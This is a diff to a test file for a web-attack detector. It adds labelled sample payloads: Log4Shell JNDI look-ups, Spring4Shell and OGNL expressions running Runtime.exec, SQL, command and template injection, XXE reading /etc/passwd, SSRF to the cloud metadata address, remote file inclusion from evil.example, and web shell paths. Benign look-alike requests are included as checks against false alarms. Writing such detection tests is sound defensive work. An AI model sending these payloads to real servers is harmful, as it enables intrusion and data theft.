@@ -21,6 +21,8 @@ const attacks: [target: string, kind: string][] = [
   ["/a?id=1%20AND%20SLEEP(5)", "SQL injection"],
   ["/a?id=1')%20or%20('1'='1", "SQL injection"],
   ["/a?id=1%2527%2520or%25201%253D1", "SQL injection"],
+  ["/a?id=1)%20or%20(2%3E1", "SQL injection"],
+  ["/a?q=%22x%22&id=1%27+or+user%3D%27a", "SQL injection"],
   ["/../../../../etc/passwd", "path traversal"],
   ["/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "path traversal"],
   ["/scripts/..%c0%af../winnt/system32/cmd.exe", "path traversal"],
@@ -35,7 +37,39 @@ const attacks: [target: string, kind: string][] = [
   ["/s?q=%3Cscript%3Ealert(1)%3C/script%3E", "script in a parameter (XSS)"],
   ["/s?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", "script in a parameter (XSS)"],
   ["/i.php?page=php://filter/convert.base64-encode/resource=index", "code injection"],
-  ["/i?class.module.classLoader.resources.context.parent=x", "code injection"],
+  ["/i?class.module.classLoader.resources.context.parent=x", "Spring4Shell"],
+  ["/i?class%5B'module'%5D.classLoader.defaultAssertionStatus=true", "Spring4Shell"],
+  ["/x?q=${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap://x/a}", "JNDI look-up (Log4Shell)"],
+  ["/x?q=${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x/a}", "JNDI look-up (Log4Shell)"],
+  ["/x?q=${${date:'j'}${lower:${upper:n}}d${::-i}:dns://x}", "JNDI look-up (Log4Shell)"],
+  ["/x?q=%5Cu0024%5Cu007bjndi:ldap://x/a}", "JNDI look-up (Log4Shell)"],
+  ["/x?q=%2524%257Bjndi%3Aldap%3A%2F%2Fx%2Fa%257D", "JNDI look-up (Log4Shell)"],
+  [
+    "/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/",
+    "OGNL expression (Struts, Confluence)",
+  ],
+  ["/a.action?redirect:%25%7B333*3%7D", "OGNL expression (Struts, Confluence)"],
+  ["/s?name={{7*7}}", "template injection (SSTI)"],
+  ["/s?name=%7B%7B''.__class__.__mro__%5B1%5D%7D%7D", "template injection (SSTI)"],
+  ["/s?name=%3C%25%3D%207*7%20%25%3E", "template injection (SSTI)"],
+  ["/s?name=%24%7B7*7%7D", "template injection (SSTI)"],
+  ["/s?x=%24%7Bscript:javascript:java.lang.Runtime%7D", "code injection"],
+  ["/i.php?page=data://text/plain;base64,PD9waHA", "code injection"],
+  ["/i.php?page=phar://a.jpg/x", "code injection"],
+  ["/index.php?s=/index/think/app/invokefunction&function=call_user_func_array&vars[0]=x", "code injection"],
+  ["/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "code injection"],
+  ["/x?ip=1.1.1.1%0aid", "command injection"],
+  ["/x?ip=1.1.1.1%26whoami", "command injection"],
+  ["/a?id=1+/*!50000UNION*/+SELECT+1", "SQL injection"],
+  ["/a?id=1%u0027%20or%201=1", "SQL injection"],
+  [
+    "/a?xml=%3C!DOCTYPE%20a%20%5B%3C!ENTITY%20b%20SYSTEM%20%22file:///etc/passwd%22%3E%5D%3E",
+    "XML external entity (XXE)",
+  ],
+  ["/a?data=rO0ABXNyABFqYXZhLnV0aWw", "serialised object"],
+  ["/a?data=O:8:%22stdClass%22:1:%7Bs:1:%22a%22;i:1;%7D", "serialised object"],
+  ["/uploads/b374k.php", "web shell"],
+  ["/files/aspxspy.aspx", "web shell"],
   ["/i.php?page=http://evil.example/shell.txt?", "remote file inclusion"],
   ["/fetch?url=http://169.254.169.254/latest/meta-data/", "request forgery (SSRF)"],
   ["/uploads/c99.php", "web shell"],
@@ -72,6 +106,17 @@ Deno.test("honest targets show no attack", () => {
       "/a?name=O'Brien&city=St.+John's",
       "/q?filter=price<100 and size>3",
       "/wiki/Cat_(Unix)",
+      "/t?tpl=${name}&x={{user.name}}&y=#{id}&u=%7B%7Bitem.title%7D%7D",
+      "/class.module.loader.js?class=module",
+      "/api?expand=$%7Bcount%7D&data:text/html,x",
+      "/q?text=PHP+filters+and+the+phar+format",
+      "/a?token=arO0ABzz&v=AAEAAAD",
+      "/media/shell.png?date=lower:x",
+      "/search?q=AT%26T+cat+food%0asecond+line",
+      "/page?rows=10*7&f=a*{b}",
+      "/search?jql=project%20%3D%20%22A%22%20AND%20status%20%3D%20%22Open%22",
+      "/query?where=NAME%3D'a'+AND+CITY%3D'b'&f=json",
+      "/items?filter=(price%3E5)%20and%20(stock%3D1)",
     ]
   ) assertEquals(webAttacksInTarget(target), [], target);
 });
@@ -88,9 +133,76 @@ Deno.test("of header fields only what no browser writes is an attack", () => {
   ) assertEquals(webAttacksInHeader(agent), [], agent);
 });
 
+Deno.test("a content type or another header holds an attack; each is shown with its name", () => {
+  const found = (fact: Partial<HttpFact>) =>
+    run(webAttack, [request(0, "/x.action", 200, fact)]).map((one) => [
+      one.title.replace("Web attack: ", ""),
+      severity(one),
+      one.evidence[2].value,
+    ]);
+  const ognl = "%{(#_=multipart/form-data).(#cmd=id)}";
+  const struts = "OGNL expression (Struts, Confluence)";
+  assertEquals(found({ content_type: ognl }), [[struts, "medium", `Content-Type: ${ognl}`]]);
+  const cookie = "Cookie: a=${jndi:ldap://x/a}";
+  assertEquals(found({ header: cookie }), [["JNDI look-up (Log4Shell)", "medium", cookie]]);
+  const spring = "spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec(1)";
+  assertEquals(found({ header: spring })[0].slice(1), ["medium", spring]);
+  assertEquals(found({ header: "Cookie: s=rO0ABXNyABFqYXZh" }).map(([kind, grade]) => [kind, grade]), [
+    ["serialised object", "low"],
+  ]);
+  assertEquals(found({ header: "X-Forwarded-For: 1.1.1.1' and 1=1 -- -" }).map(([kind]) => kind), [
+    "SQL injection",
+  ]);
+  for (
+    const honest of ["Cookie: c={{a}}", "X-Path: ${HOME}/x", "Cookie: n='it' 's; o=1", "X-Color: #{fff}"]
+  ) assertEquals(found({ header: honest }), [], honest);
+  assertEquals(found({ content_type: "multipart/form-data; boundary=----x{y}" }), []);
+  // What a server answers is no attack on it.
+  assertEquals(run(webAttack, [update(0, { facts: { http: [{ status: 200, content_type: ognl }] } })]), []);
+});
+
+Deno.test("a body that is no form holds an attack only where a field or the document begins with it", () => {
+  const found = (body: string, content_type = "application/json") =>
+    run(webAttack, [request(0, "/api", 200, { method: "POST", body, content_type })]).map((one) =>
+      one.title.replace("Web attack: ", "")
+    );
+  assertEquals(found('{"user":"${jndi:ldap://x/a}"}'), ["JNDI look-up (Log4Shell)"]);
+  assertEquals(found('{"log":"GET /?q=${jndi:ldap://x/a} 404"}'), [], "a line of a log that is sent on");
+  const xxe = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>';
+  assertEquals(found(xxe, "text/xml"), ["XML external entity (XXE)"]);
+  assertEquals(found('<?xml version="1.0"?><!DOCTYPE html PUBLIC "-//W3C//DTD">', "text/xml"), []);
+  assertEquals(found("<?php system('id');", "text/plain"), ["code injection"]);
+  assertEquals(found("how to write <?php echo 1;", "text/plain"), []);
+  assertEquals(found('{"@type":"com.sun.rowset.JdbcRowSetImpl"}'), ["serialised object"]);
+  assertEquals(found('{"@type":"Person","name":"x"}'), []);
+  const part = '--x..Content-Disposition: form-data; name="u"; filename="%{(#a=1)}"';
+  assertEquals(found(part, "multipart/form-data"), ["OGNL expression (Struts, Confluence)"]);
+  const form = "application/x-www-form-urlencoded";
+  assertEquals(found("data=rO0ABXNyABFqYXZhLnV0aWw", form), ["serialised object"]);
+  assertEquals(found("javax.faces.ViewState=rO0ABXVyABNbTGphdmE", form), []);
+});
+
 Deno.test("patterns take linear time over the longest hostile text", () => {
   const started = performance.now();
-  for (const piece of ["'or ", "${", "../", "<img ", "((((", "union ", "%25", "/*", "=''", "{{1*"]) {
+  for (
+    const piece of [
+      "'or ",
+      "${",
+      "../",
+      "<img ",
+      "((((",
+      "union ",
+      "%25",
+      "/*",
+      "=''",
+      "{{1*",
+      "${{",
+      "%{#a",
+      "{{a__",
+      "__${",
+      "${lower:",
+    ]
+  ) {
     webAttacksInTarget(`/?a=${piece.repeat(2_000)}`);
   }
   assertEquals(performance.now() - started < 2_000, true);
